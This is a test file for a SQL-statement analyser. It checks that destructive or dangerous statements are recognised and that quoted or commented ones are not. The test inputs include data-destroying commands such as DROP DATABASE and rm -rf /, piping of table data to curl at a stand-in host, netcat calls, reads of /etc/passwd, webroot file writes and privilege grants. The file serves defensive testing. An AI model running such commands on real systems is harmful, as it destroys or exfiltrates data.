import { tell } from '../given_code.js';

describe('sql: statements are deeds of a program sql', () => {
  const cases: [code: string, deeds: string[]][] = [
    ['DROP DATABASE prod', ['sql drop-database prod']],
    ['drop table if exists "public"."users" cascade;', ['sql drop-table public.users']],
    ['DROP/**/TABLE\n users', ['sql drop-table users']],
    ['/*!50000 DROP TABLE users */', ['sql drop-table users']],
    ['DROP TEMPORARY TABLE t', ['sql drop-temporary-table t']],
    ['TRUNCATE TABLE logs; TRUNCATE users', ['sql truncate logs', 'sql truncate users']],
    ['DELETE FROM users', ['sql delete-all users']],
    ['DELETE FROM users WHERE 1=1', ['sql delete-all users']],
    [`DELETE FROM users WHERE 'a' = 'a'`, ['sql delete-all users']],
    ['DELETE FROM users WHERE id = 4', ['sql delete-some users']],
    ['UPDATE users SET admin = true', ['sql update-all users']],
    ['UPDATE users SET admin = true WHERE id = 3', ['sql update-some users']],
    ['ALTER TABLE users DROP COLUMN email, DROP age', ['sql drop-column users email', 'sql drop-column users age']],
    ['GRANT ALL PRIVILEGES ON *.* TO x', ['sql grant "ALL PRIVILEGES ON    TO X"']],
    ['WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone', ['sql delete-all users']],
    [`COPY users TO PROGRAM 'curl -d @- http://x.example'`, ['sql run-program', '$ curl -d @- http://x.example']],
    [`COPY t FROM PROGRAM 'id'`, ['sql run-program', '$ id']],
    [`SELECT * FROM users INTO OUTFILE '/var/www/x.php'`, ['printf %s … > /var/www/x.php']],
    [`SELECT LOAD_FILE('/etc/passwd')`, ['cat /etc/passwd < /etc/passwd']],
    [`EXEC xp_cmdshell 'del /s /q c:\\\\'`, ['$ del /s /q c:\\\\']],
    [`EXECUTE 'DROP TABLE users'`, ['sql drop-table users']],
    [`DO $$ BEGIN EXECUTE 'DROP SCHEMA public CASCADE'; END $$`, ['sql drop-schema public']],
    ['\\! rm -rf /', ['$ rm -rf /']],
    ['.shell rm -rf ~', ['$ rm -rf ~']],
    [`\\copy users to program 'nc h 1'`, ['$ nc h 1']],
    ['ALTER USER postgres WITH SUPERUSER', ['sql alter-user postgres']],
    ['FLUSHALL', ['sql flush FLUSHALL']],
    ['SHUTDOWN', ['sql shutdown']],
  ];
  it.each(cases)('%s', (code, deeds) => {
    expect(tell('sql', code).deeds).toEqual(deeds);
  });
});

describe('sql: what is said is not done', () => {
  const cases = [
    `SELECT 'DROP TABLE users'`,
    '-- DROP TABLE users\nSELECT 1',
    `SELECT * FROM audit WHERE action = 'delete from users'`,
    'SELECT "drop" FROM t',
    `INSERT INTO notes (body) VALUES ('truncate table x; drop database y')`,
    'SELECT deleted, updated FROM truncate_log ORDER BY 1',
    'CREATE TABLE t (id int references u ON DELETE CASCADE)',
    'SELECT count(*) FROM users',
  ];
  it.each(cases)('%s', (code) => {
    expect(tell('sql', code)).toEqual({ deeds: [], written: [], lines: [] });
  });
});
